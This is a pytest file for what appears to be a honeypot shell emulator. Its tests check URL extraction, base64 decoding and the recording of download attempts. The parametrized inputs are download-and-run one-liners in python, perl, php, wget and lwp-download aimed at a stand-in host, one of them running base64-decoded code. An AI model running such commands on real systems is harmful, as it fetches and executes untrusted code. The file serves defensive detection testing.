# SPDX-License-Identifier: Apache-2.0
"""URLs in code that is not emulated."""

from __future__ import annotations

import pytest

from mead.shell import Decoded, Offer, Shell
from mead.shell.scripts import decoded_layers, urls_in


def test_urls_are_found_once_and_clean() -> None:
    code = b"get('http://192.0.2.1/a'); get(\"ftp://192.0.2.1/b\"), http://192.0.2.1/a. http:// x"
    assert urls_in(code) == ["http://192.0.2.1/a", "ftp://192.0.2.1/b"]


def test_base64_literals_are_decoded() -> None:
    assert decoded_layers(b"x = 'aHR0cDovLzE5Mi4wLjIuMS94eXo='") == [b"http://192.0.2.1/xyz"]


@pytest.mark.parametrize(
    "line",
    [
        "python -c \"import urllib; urllib.urlretrieve('http://192.0.2.1/x', 'y')\"",
        'perl -e \'use LWP::Simple; getstore("http://192.0.2.1/x", "y")\'',
        'php -r \'copy("http://192.0.2.1/x", "y");\'',
        "python3 -c \"import os; os.system('wget http://192.0.2.1/x')\"",
        "echo 'import urllib; u(\"http://192.0.2.1/x\")' > p.py; python p.py",
        "python3 -c 'exec(b64decode(\"aHR0cDovLzE5Mi4wLjIuMS94IyMjIyMjIyMjIyM=\"))' || lwp-download http://192.0.2.1/x",
    ],
)
def test_other_languages_make_offers(server: Shell, line: str) -> None:
    reply = server.run(line.encode())
    found = {effect.url.rstrip("#") for effect in reply.effects if isinstance(effect, Offer)}
    assert found == {"http://192.0.2.1/x"}
    if "b64" in line:
        assert any(isinstance(effect, Decoded) for effect in reply.effects)
